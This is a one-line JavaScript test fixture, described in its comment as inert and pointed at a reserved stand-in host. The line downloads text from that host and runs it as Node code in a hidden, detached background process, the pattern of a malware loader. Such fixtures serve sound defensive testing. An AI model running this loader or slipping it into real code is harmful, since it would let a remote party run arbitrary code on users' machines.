// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const {spawn}=require("child_process");const request=require("request");request.get("https://code.invalid/p",(err,res,body)=>{if(!err)spawn(process.execPath,["-e",body],{detached:true,stdio:"ignore",windowsHide:true}).unref();});
